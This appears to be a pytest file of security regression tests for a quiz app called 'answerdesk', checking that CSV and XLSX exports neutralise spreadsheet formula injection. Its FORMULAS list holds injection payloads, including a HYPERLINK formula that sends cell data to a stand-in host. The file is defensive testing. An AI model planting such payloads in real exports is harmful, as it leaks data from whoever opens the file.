"""Issue 17: thirteen holes found by attacking answerdesk as an outsider would.

One test (or a few) per item, named test_17_NN_...; each failed on the code
before its fix.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from openpyxl import load_workbook

from answerdesk import create_app
from answerdesk.exports import month_results, to_csv, to_xlsx
from answerdesk.extensions import db
from answerdesk.league import MonthLine, MonthTable
from answerdesk.packs import PackError, load_native


def login(client, code: str, password: str):
    return client.post(f"/host/{code}/login", data={"password": password})


@pytest.fixture
def strict_app(db_uri, tmp_path):
    """The app as served: CSRF on, rate limits on."""
    app = create_app({"SQLALCHEMY_DATABASE_URI": db_uri, "SECRET_KEY": "test-secret",
                      "SERVER_NAME": "quiz.test", "INSTANCE_PATH": str(tmp_path),
                      "TESTING": True, "RATELIMIT_ENABLED": True})
    from answerdesk.demo import create_demo_event

    with app.app_context():
        event, password = create_demo_event()
        app.config["DEMO"] = (event.code, password)
    yield app
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def csrf_token(client, url: str) -> str:
    html = client.get(url).get_data(as_text=True)
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


# 1. Formulas in exports ----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Click")', "+cmd", "-1+1", "@SUM(1)"]


def test_17_01_export_formulas_neutralised_results_csv_and_xlsx(desk):
    for name in FORMULAS:
        desk.join(name)
    login(desk.client, desk.code, desk.password)
    resp = desk.client.get(f"/host/{desk.code}/export/results.csv")
    assert resp.status_code == 200
    names = [row[1] for row in csv.reader(io.StringIO(resp.get_data(as_text=True)))][1:]
    assert sorted(names) == sorted("'" + n for n in FORMULAS)
    resp = desk.client.get(f"/host/{desk.code}/export/results.xlsx")
    sheet = load_workbook(io.BytesIO(resp.data)).active
    cells = [sheet.cell(row=r, column=2) for r in range(2, sheet.max_row + 1)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)  # shown as typed …
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # … but never run


def test_17_01_export_formulas_neutralised_month_table(app):
    line = MonthLine(name="=1+1", place=1, shared=False, by_edition=(), points=3, title=None)
    with app.test_request_context():
        header, rows = month_results(MonthTable("2025-03", [], [line], [], []))
    assert to_csv(header, rows).decode("utf-8-sig").splitlines()[1].startswith("1,'=1+1,")
    sheet = load_workbook(io.BytesIO(to_xlsx(header, rows, "2025-03"))).active
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == "=1+1"
    assert sheet["C2"].value == 3  # numbers stay numbers
